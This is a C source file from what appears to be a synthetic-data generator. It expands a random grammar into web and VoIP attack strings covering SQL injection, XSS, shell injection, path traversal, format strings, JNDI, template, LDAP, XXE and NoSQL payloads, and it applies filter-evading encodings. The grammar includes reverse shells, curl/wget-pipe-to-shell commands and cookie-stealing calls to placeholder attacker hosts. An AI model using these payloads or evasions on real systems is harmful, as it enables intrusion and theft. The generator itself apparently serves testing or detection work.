/* Random text from a small grammar: what attackers write into fields, guess and dial.
 * Relies on: data/synth/random.h.
 * Relied on by: data/synth/attack_*.c. */
#include "data/synth/attack_grammar.h"

#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>

enum { ALTERNATIVES_MAX = 40, DEPTH_MAX = 8, NAME_MAX_LENGTH = 16 };

/* A rule and its alternatives; NULL ends them. Alternatives that should come more often stand there twice. */
typedef struct Rule {
    const char *name;
    const char *alternatives[ALTERNATIVES_MAX];
} Rule;

/* clang-format off */
static const Rule rules[] = {
    {"lead", {"", "", "~a4~", "~d3~", "~word~", "x", "1", "-1", "admin"}},
    {"word", {"admin", "test", "alice", "root", "guest", "user", "sales", "sip", "voip", "info", "operator", "a"}},
    {"table", {"subscriber", "users", "location", "cdr", "sip_devices", "acc", "version", "accounts", "dual",
               "information_schema.tables", "pg_shadow", "sysobjects", "uri", "trusted", "sippeers", "voicemail"}},
    {"column", {"username", "password", "ha1", "id", "secret", "email", "name", "contact", "version()", "user()",
                "@@version", "null", "null", "1", "2", "~n~", "char(~d2~)", "database()", "table_name"}},
    {"columns", {"~column~", "~column~,~column~", "~column~,~column~,~column~", "null,null,null,null,~column~",
                 "*", "~column~,2,3,4,5,6"}},
    {"quote", {"'", "'", "'", "\"", "')", "'))", "", "\\'", "`", "';", "\";", "'+'", "' ", "''"}},
    {"end", {"--", "-- ", "#", ";--", "/*", "", "", "-- -", ";%00", "--+", "' --", "; #"}},
    {"true", {"~n~=~=~", "'~a1~'='~a1~", "true", "1", "'x'='x", "~n~>0", "not false", "1 like 1", "'1'='1' ",
              "~n~<~n~9999", "2 between 1 and 3", "exists(select 1)", "1 in (1,2)", "length('a')=1",
              "''=''", "(1)=(1)", "1=1 limit 1"}},
    {"wait", {"sleep(~d1~)", "benchmark(~n~000000,md5(1))", "pg_sleep(~d1~)", "waitfor delay '0:0:~d1~'",
              "dbms_pipe.receive_message('a',~d1~)", "(select ~n~ from (select(sleep(~d1~)))a)",
              "randomblob(~n~00000000)", "if(1=1,sleep(~d1~),0)"}},
    {"statement", {"drop table ~table~", "delete from ~table~", "update ~table~ set password='~a5~'",
                   "insert into ~table~ values(~n~,'~a4~')", "truncate ~table~", "alter table ~table~ add x int",
                   "exec xp_cmdshell('~command~')", "shutdown", "create user ~a5~", "grant all on *.* to ~word~",
                   "select ~columns~ into outfile '/tmp/~a4~'", "copy ~table~ to program '~command~'",
                   "set password=''", "load_file('/etc/passwd')", "declare @q varchar(99)"}},
    {"sqlcore", {"or ~true~", "or ~true~", "or ~true~", "and ~true~", "and ~wait~", "or ~wait~", "; ~statement~",
                 "; ~statement~", "union select ~columns~ from ~table~", "union all select ~columns~",
                 "union select ~columns~", "and (select count(*) from ~table~)>~n~",
                 "and ascii(substring((select ~column~ from ~table~ limit 1),~n~,1))>~n~", "order by ~n~",
                 "having 1=1", "group by ~column~ having ~true~", "procedure analyse()", "|| (select ~column~)",
                 "and extractvalue(1,concat(0x7e,~column~))", "rlike (select (case when (~true~) then 1 else 2 end))",
                 "and updatexml(1,concat(0x7e,(select ~column~)),1)", "xor ~true~", "&& ~true~", "|| ~true~",
                 "and 1=convert(int,(select ~column~))", "div ~n~", "; ~wait~", "where ~true~", "in (select ~column~ from ~table~)",
                 "and row(1,1)>(select count(*),concat(~column~) x from ~table~ group by x)"}},
    {"sql", {"~lead~~quote~ ~sqlcore~~end~", "~lead~~quote~ ~sqlcore~~end~", "~lead~~quote~ ~sqlcore~~end~",
             "~lead~~quote~~sqlcore~~end~", "~lead~~quote~) ~sqlcore~~end~", "~word~'~end~", "~lead~~quote~~end~",
             "select ~columns~ from ~table~ where ~true~", "~n~ ~sqlcore~~end~", "~lead~' ~sqlcore~ and 'a'='a",
             "concat(~column~,0x3a,~column~)", "~lead~\" ~sqlcore~~end~"}},

    {"code", {"alert(~n~)", "alert(document.cookie)", "prompt(1)", "confirm(~n~)", "eval(name)", "alert`~n~`",
              "document.location='~url~?'+document.cookie", "fetch('//~host~/~a3~')", "top['al'+'ert'](1)",
              "new Image().src='//~host~/'+document.cookie", "import('//~host~/~a2~.js')", "console.log(~n~)",
              "window.open('~url~')", "$.getScript('//~host~')", "document.write('~a4~')",
              "String.fromCharCode(88,83,83)", "setTimeout('alert(1)',~n~)", "self[atob('YWxlcnQ=')](1)"}},
    {"event", {"onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationend",
               "onpointerenter", "onbegin"}},
    {"script", {"<script>~code~</script>", "\"><script>~code~</script>", "'><script>~code~</script>",
                "<img src=x ~event~=~code~>", "<svg/~event~=~code~>", "javascript:~code~", "<body ~event~=~code~>",
                "'\"><body ~event~=~code~>", "<iframe src=javascript:~code~>", "<a href=\"javascript:~code~\">~word~</a>",
                "</title><script>~code~</script>", "<details open ~event~=~code~>", "<input autofocus ~event~=~code~>",
                "\"~event~=\"~code~", "' ~event~='~code~", "<script src=//~host~/~a2~.js></script>",
                "<object data=\"javascript:~code~\">", "<math><a xlink:href=javascript:~code~>x",
                "<video><source ~event~=\"~code~\">", "<marquee ~event~=~code~>", "<style>@import'//~host~';</style>",
                "<link rel=stylesheet href=//~host~>", "<meta http-equiv=refresh content=0;url=~url~>",
                "<scr<script>ipt>~code~</scr</script>ipt>", "\\\";~code~//", "';~code~//", "</script><script>~code~",
                "<form action=~url~><input type=submit>", "<embed src=~url~>", "<base href=//~host~>",
                "data:text/html,<script>~code~</script>", "<table background=javascript:~code~>",
                "<div style=width:expression(~code~)>", "<isindex action=javascript:~code~>", "<b>~a4~</b>",
                "<!--#exec cmd=\"~command~\"-->", "<?php ~php~?>"}},
    {"php", {"system('~command~');", "echo ~n~*~n~;", "phpinfo();", "passthru($_GET[0]);", "eval($_POST['~a1~']);"}},
    {"host", {"~a4~.example", "198.51.100.~d2~", "~a5~.example.net", "192.0.2.~d2~", "evil.example.org", "[2001:db8::~d2~]"}},
    {"url", {"http://~host~/~a3~", "https://~host~/", "//~host~/~a4~", "ftp://~host~/x", "http://~host~:~d4~/~a2~"}},
    {"command", {"id", "cat /etc/passwd", "wget ~url~ -O- | sh", "nc -e /bin/sh ~host~ ~d4~", "rm -rf /tmp/~a3~",
                 "uname -a", "curl -s ~url~|bash", "ping -c ~d1~ ~host~", "touch /tmp/~a3~", "whoami", "ls -la /",
                 "sleep ~d2~", "reboot", "ps aux", "echo ~a8~ > /tmp/~a3~", "python3 -c 'import os;os.system(\"id\")'",
                 "/usr/sbin/asterisk -rx 'core stop now'", "bash -i >& /dev/tcp/~host~/~d4~ 0>&1", "ifconfig",
                 "tftp -g -r ~a3~ ~host~", "chmod 777 /tmp/~a3~", "perl -e 'print 1'", "kill -9 1", "cat /etc/shadow",
                 "dir c:\\", "type c:\\windows\\win.ini", "powershell -enc ~a12~", "telnetd -p ~d4~", "env",
                 "busybox ~a4~", "useradd ~a5~", "nslookup ~a4~.~host~", "mail ~word~ < /etc/passwd"}},
    {"shell", {"~lead~;~command~;", "~lead~|~command~", "`~command~`", "$(~command~)", "~lead~&& ~command~", "~lead~&~command~&",
               "|| ~command~ #", "%0a~command~", "; ~command~ ;#", "() { :;}; ~command~", "~lead~| ~command~ |",
               "';~command~;'", "\";~command~;\"", "~lead~$(~command~)~a2~", "a;b=~a2~;~command~", "$IFS$9~command~",
               "~lead~`~command~`", "{~command~,}", "|~command~;echo ~a4~", "!~command~", "<(~command~)",
               "&&{echo,~a4~}", "$((~n~+~n~))", "${IFS}~command~", "~word~';~command~ #", "@~command~|", "||~command~||"}},
    {"up", {"../", "../", "..\\", "%2e%2e%2f", "....//", "..%252f", "..%c0%af", "..;/", "..%5c", "/../", "%2e%2e/",
            "..././", ".%2e/", "\\..\\"}},
    {"climb", {"~up~~up~~up~", "~up~~up~~up~~up~~up~", "~up~~up~~up~~up~~up~~up~~up~~up~", "../../../", "../../../../../../"}},
    {"file", {"etc/passwd", "etc/shadow", "windows/win.ini", "etc/asterisk/sip.conf", "proc/self/environ", "boot.ini",
              "etc/kamailio/kamailio.cfg", "var/log/asterisk/full", "etc/hosts", "root/.ssh/id_rsa", "etc/freeswitch/vars.xml",
              "var/www/html/config.php", "usr/local/etc/~a4~.conf", "winnt/system32/cmd.exe", "tftpboot/~h12~.cfg",
              "etc/opensips/opensips.cfg", ".git/config", "etc/issue", "proc/version"}},
    {"path", {"~climb~~file~", "/var/www/~climb~~file~", "file:///~climb~~file~", "~climb~~file~%00", "~climb~~file~%00.~a3~",
              "file:///~file~", "/~file~", "~word~/~climb~~file~", "php://filter/convert.base64-encode/resource=~file~",
              "\\\\~host~\\~a3~\\x", "c:\\~climb~~file~", "~climb~~file~%23", "expect://~command~", "~climb~~file~?"}},

    {"directive", {"%s", "%s", "%n", "%x", "%08x.", "%p", "%1$s", "%d%n", "%99999d", "%hn", "%.~n~d", "%~n~$n", "%~n~$x",
                   "%lx", "%u", "%.1024d", "%hhn", "%#x", "%c", "%f", "%e%n", "%.*s"}},
    {"directives", {"~directive~~directive~", "~directive~~directive~~directive~~directive~",
                    "~directive~~directive~~directive~~directive~~directive~~directive~~directive~~directive~"}},
    {"format", {"~directives~", "~directives~~directives~", "%s%s%s%s%s%s%s%s", "%n%n%n%n%n%n", "AAAA%08x.%08x.%08x.%08x.%n",
                "%x%x%x%x%x%x%x%x%s", "~a4~~directives~", "~lead~%p.%p.%p.%p.%p.%p", "~directives~~a6~~directives~",
                "%1$s%2$s%3$s%4$s", "%~n~$p%~n~$n", "~a2~%.~n~x%n%n", "%@%@%@%@", "%s.%s.%s.%s", "%x.%x.%x.%x.%x.%x"}},

    {"crlf", {"%0d%0a", "%0a", "\\r\\n", "\\n", "%0D%0A%0D%0A", "%E5%98%8A%E5%98%8D", "%0d", "\\x0a", "\\u000a", "%250a",
              "&#10;", "%c4%8a", "\\r\\n\\r\\n"}},
    {"entry", {"NOTICE[~d4~]: chan_sip.c: Registration from '~word~' succeeded", "Jan 12 12:00:00 pbx kamailio[~d3~]: INFO: login ok",
               "Contact: <sip:~a4~@~host~>", "WARNING: Failed to authenticate '~word~' - 10.0.0.~d1~", "Set-Cookie: admin=1",
               "[ERROR] rejected by rule ~n~", "SIP/2.0 200 OK", "Failed password for root from ~host~ port ~d4~ ssh2",
               "To: <sip:~word~@~host~>", "level=info msg=accepted user=~word~", "SECURITY: access granted", "<script>~code~</script>",
               "INVITE sip:~d4~@~host~ SIP/2.0", "Via: SIP/2.0/UDP ~host~", "GET / HTTP/1.1", "X-Admin: true",
               "[~d4~] DEBUG: user=~word~ pass=~a6~ ok", "\\x1b[2J\\x1b[31mroot", "Authorization: Basic ~a12~",
               "Mar 3 03:03:03 host sudo: ~word~ : TTY=pts/0 ; COMMAND=/bin/sh"}},
    {"log", {"~a4~~crlf~~entry~", "~lead~~crlf~~entry~", "~word~~crlf~~crlf~~entry~", "~a3~~crlf~~entry~~crlf~~entry~"}},

    {"scheme", {"ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "nis", "http"}},
    {"jndi", {"jndi", "jndi", "${lower:j}ndi", "${lower:j}${lower:n}di", "j${::-n}di", "${env:X:-j}ndi", "${upper:j}ndi",
              "${::-j}${::-n}${::-d}${::-i}"}},
    {"lookup", {"${~jndi~:~scheme~://~host~/~a3~}", "${~jndi~:~scheme~://~host~:~d4~/~a4~}", "${~jndi~:~scheme~://${env:USER}.~host~/a}",
                "${~jndi~:~scheme~://${hostName}.~host~}", "${env:PATH}", "${sys:java.version}", "${java:os}", "${date:~a3~}",
                "${script:javascript:~code~}", "${url:UTF-8:~url~}", "${dns:~host~}", "${ctx:~a4~}", "~a3~${~jndi~:~scheme~:~host~/~a2~}"}},

    {"sum", {"~n~*~n~", "7*7", "~n~+~n~", "7*'7'", "config", "self", "request", "~n~-~n~"}},
    {"template", {"{{~sum~}}", "${~sum~}", "#{~sum~}", "<%= ~sum~ %>", "*{~sum~}", "{{config.items()}}", "@(~sum~)", "{~sum~}",
                  "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('~command~')}",
                  "{{constructor.constructor('~code~')()}}", "{% debug %}", "{{self.__init__.__globals__}}", "[[${~sum~}]]",
                  "%{(#a=@java.lang.Runtime@getRuntime().exec('~command~'))}", "{php}~php~{/php}", "{{request|attr('x')}}",
                  "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x('~command~')}", "{{=~sum~}}", "~~sum~~", "$var(~a2~)",
                  "#set($x=~n~)$x", "{{lipsum.__globals__['os'].popen('~command~').read()}}"}},

    {"attribute", {"uid", "cn", "objectClass", "userPassword", "mail", "sn", "telephoneNumber"}},
    {"directory", {"*)(~attribute~=*", "*)(~attribute~=*))(|(~attribute~=*", "~word~)(&)", "*))%00", "(|(~attribute~=*)(~attribute~=*))",
                   "~word~*)((|~attribute~=*)", ")(~attribute~=~a3~", "*()|%26'", "' or '1'='1' or ''='", "'] | //user/* | //*['",
                   "//*", "x' or name()='username' or 'x'='y", "count(/child::node())", "~word~)(!(&(1=0", "*)(|(&", "' or position()=~d1~ or '"}},

    {"markup", {"<!DOCTYPE x [<!ENTITY ~a2~ SYSTEM \"file:///~file~\">]><x>&~a2~;</x>", "<!ENTITY % ~a2~ SYSTEM \"~url~\"> %~a2~;",
                "<xi:include href=\"file:///~file~\" parse=\"text\"/>", "<![CDATA[<~a3~>]]>", "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"~url~\">",
                "]]><~a2~/>", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"/>", "<!--~a4~--><~word~>1</~word~>", "&~a3~;&#x~h2~;",
                "<xsl:value-of select=\"system-property('xsl:vendor')\"/>", "</presence><presence entity=\"~word~\">", "<soap:Body>~a4~</soap:Body>"}},

    {"document", {"{\"$gt\":\"\"}", "{\"$ne\":null}", "[$ne]=1", "'; return true; var a='", "{\"$where\":\"sleep(~n~)\"}", "' || '1'=='1",
                  "';while(1);'", "{\"$regex\":\".*\"}", "[$regex]=.*", "true, $where: '1 == 1'", "{$or:[{},{\"~a1~\":\"~a1~\"}]}",
                  "\\r\\nFLUSHALL\\r\\n", "1; sleep(~d4~)", "{\"__proto__\":{\"~word~\":1}}", "db.~a4~.drop()"}},
};
/* clang-format on */

static const char *const payload_rules[ATTACK_PAYLOADS] = {
    "~sql~",    "~script~",   "~shell~",     "~path~",   "~format~",   "~log~",
    "~lookup~", "~template~", "~directory~", "~markup~", "~document~",
};

void attack_append(AttackText *text, const char *format, ...) {
    va_list arguments;
    va_start(arguments, format);
    size_t room = ATTACK_TEXT_MAX - text->length;
    int written = vsnprintf(text->bytes + text->length, room + 1, format, arguments);
    va_end(arguments);
    if (written > 0) text->length += (size_t)written < room ? (uint32_t)written : (uint32_t)room;
}

static void put(AttackText *text, char c) {
    if (text->length == ATTACK_TEXT_MAX) return;
    text->bytes[text->length++] = c;
    text->bytes[text->length] = 0;
}

static void draw_characters(SynthRandom *random, char kind, unsigned count, AttackText *text) {
    static const char letters[] = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHJKLMNPQRSTUVWXYZ";
    for (unsigned i = 0; i < count; i++)
        if (kind == 'd')
            put(text, (char)('0' + synth_below(random, 10)));
        else if (kind == 'h')
            put(text, "0123456789abcdef"[synth_below(random, 16)]);
        else
            put(text, letters[synth_below(random, sizeof letters - 1)]);
}

static const Rule *find_rule(const char *name, size_t length) {
    for (size_t i = 0; i < sizeof rules / sizeof *rules; i++)
        if (strlen(rules[i].name) == length && memcmp(rules[i].name, name, length) == 0) return &rules[i];
    return NULL;
}

static const char *draw_alternative(SynthRandom *random, const Rule *rule) {
    unsigned count = 0;
    while (count < ALTERNATIVES_MAX && rule->alternatives[count])
        count++;
    return rule->alternatives[synth_below(random, count)];
}

/* What one pair of tildes holds; `number` is the last ~n~. */
static bool expand_name(SynthRandom *random, const char *name, size_t length, unsigned depth,
                        uint32_t *number, AttackText *text);

static void expand(SynthRandom *random, const char *rule, unsigned depth, uint32_t *number,
                   AttackText *text) {
    while (*rule) {
        const char *end = *rule == '~' ? strchr(rule + 1, '~') : NULL;
        if (end && end > rule + 1 && end - rule <= NAME_MAX_LENGTH &&
            expand_name(random, rule + 1, (size_t)(end - rule - 1), depth, number, text))
            rule = end + 1;
        else
            put(text, *rule++);
    }
}

static bool expand_name(SynthRandom *random, const char *name, size_t length, unsigned depth,
                        uint32_t *number, AttackText *text) {
    if (length == 1 && *name == 'n') {
        *number = 1 + synth_below(random, synth_below(random, 2) ? 9 : 99);
        attack_append(text, "%u", *number);
        return true;
    }
    if (length == 1 && *name == '=') {
        attack_append(text, "%u", *number);
        return true;
    }
    if (length >= 2 && length <= 3 && name[1] >= '0' && name[1] <= '9') {
        unsigned count = (unsigned)(name[1] - '0');
        if (length == 3) count = 10 * count + (unsigned)(name[2] - '0');
        draw_characters(random, *name, count, text);
        return true;
    }
    const Rule *found = find_rule(name, length);
    if (!found) return false;
    if (depth < DEPTH_MAX) expand(random, draw_alternative(random, found), depth + 1, number, text);
    return true;
}

void attack_expand(SynthRandom *random, const char *rule, AttackText *text) {
    uint32_t number = 1;
    expand(random, rule, 0, &number, text);
}

/* -- disguise ------------------------------------------------------------------------------------------- */

static bool is_letter(char c) {
    return (unsigned char)((c | 0x20) - 'a') < 26;
}

static bool is_plain(char c) {
    return is_letter(c) || (c >= '0' && c <= '9');
}

static void change_case(SynthRandom *random, AttackText *text) {
    uint32_t kind = synth_below(random, 5);
    if (kind > 2) return; /* as written */
    for (uint32_t i = 0; i < text->length; i++) {
        if (!is_letter(text->bytes[i])) continue;
        bool upper = kind == 0 || (kind == 1 && synth_below(random, 2));
        text->bytes[i] = (char)(upper ? text->bytes[i] & ~0x20 : text->bytes[i] | 0x20);
    }
}

/* Blanks of SQL and shell written as something that the parser behind takes for one. */
static void change_blanks(SynthRandom *random, AttackPayload family, AttackText *text) {
    static const char *const blanks[] = {" ",  " ",   " ",     "/**/", "%20", "+",
                                         "\t", "%09", "/*x*/", "%0b",  "%0a"};
    if (family != ATTACK_SQL && synth_below(random, 4)) return;
    uint32_t count = family == ATTACK_SQL ? sizeof blanks / sizeof *blanks : 7;
    const char *blank = blanks[synth_below(random, count)];
    if (family != ATTACK_SQL && blank[0] == '/') blank = "${IFS}";
    if (blank[0] == ' ') return;
    AttackText out = {.length = 0};
    for (uint32_t i = 0; i < text->length; i++)
        if (text->bytes[i] == ' ')
            attack_append(&out, "%s", blank);
        else
            put(&out, text->bytes[i]);
    *text = out;
}

/* Bytes that are no letter or digit, written as escapes of one kind: all of them, or only those in `which`.
 */
static void encode(AttackText *text, const char *format, const char *which) {
    AttackText out = {.length = 0};
    for (uint32_t i = 0; i < text->length; i++) {
        char c = text->bytes[i];
        char escape[16];
        if (is_plain(c) || (*which && !strchr(which, c))) {
            put(&out, c);
            continue;
        }
        switch (*format) {
        case 'p': snprintf(escape, sizeof escape, "%%%02X", (unsigned char)c); break;
        case 'q': snprintf(escape, sizeof escape, "%%%02x", (unsigned char)c); break;
        case 'd': snprintf(escape, sizeof escape, "%%25%02X", (unsigned char)c); break;
        case 'u': snprintf(escape, sizeof escape, "\\u%04x", (unsigned char)c); break;
        case 'x': snprintf(escape, sizeof escape, "\\x%02x", (unsigned char)c); break;
        case 'e': snprintf(escape, sizeof escape, "&#%u;", (unsigned char)c); break;
        case 'w': snprintf(escape, sizeof escape, "%%u%04X", (unsigned char)c); break;
        default: snprintf(escape, sizeof escape, "&#x%x;", (unsigned char)c); break;
        }
        attack_append(&out, "%s", escape);
    }
    *text = out;
}

static void disguise(SynthRandom *random, AttackPayload family, AttackText *text) {
    if (synth_below(random, 100) >= 28 || family == ATTACK_FORMAT || family == ATTACK_LOG) return;
    static const char *const marks[] = {"'\"<>", "<>", " '\"", "'", "/.", "(){}$", ""};
    const char *format = &"ppqduxewh"[synth_below(random, 9)];
    bool keeps_meaning = family == ATTACK_SCRIPT || family == ATTACK_MARKUP || *format == 'p' ||
                         *format == 'q' || *format == 'd';
    encode(text, keeps_meaning ? format : "p", marks[synth_below(random, sizeof marks / sizeof *marks)]);
}

void attack_payload(SynthRandom *random, AttackPayload family, AttackText *text) {
    text->length = 0;
    text->bytes[0] = 0;
    attack_expand(random, payload_rules[family], text);
    if (family == ATTACK_SQL || family == ATTACK_SCRIPT) change_case(random, text);
    if (family == ATTACK_SQL || family == ATTACK_SHELL) change_blanks(random, family, text);
    disguise(random, family, text);
    if (text->length == 0) attack_append(text, "' or 1=1--");
}

void attack_escape_user(const AttackText *from, AttackText *to) {
    to->length = 0;
    to->bytes[0] = 0;
    for (uint32_t i = 0; i < from->length; i++) {
        char c = from->bytes[i];
        bool bad_percent =
            c == '%' && !(i + 2 < from->length && strchr("0123456789abcdefABCDEF", from->bytes[i + 1]) &&
                          strchr("0123456789abcdefABCDEF", from->bytes[i + 2]));
        if (is_plain(c) || (c == '%' && !bad_percent) || (c && strchr("-_.!~*'()&=+$,;?/", c)))
            put(to, c);
        else
            attack_append(to, "%%%02X", (unsigned char)c);
    }
}

void attack_escape_quoted(const AttackText *from, AttackText *to) {
    to->length = 0;
    to->bytes[0] = 0;
    for (uint32_t i = 0; i < from->length && to->length + 1 < ATTACK_TEXT_MAX; i++) {
        if (from->bytes[i] == '"' || from->bytes[i] == '\\') put(to, '\\');
        put(to, from->bytes[i]);
    }
}
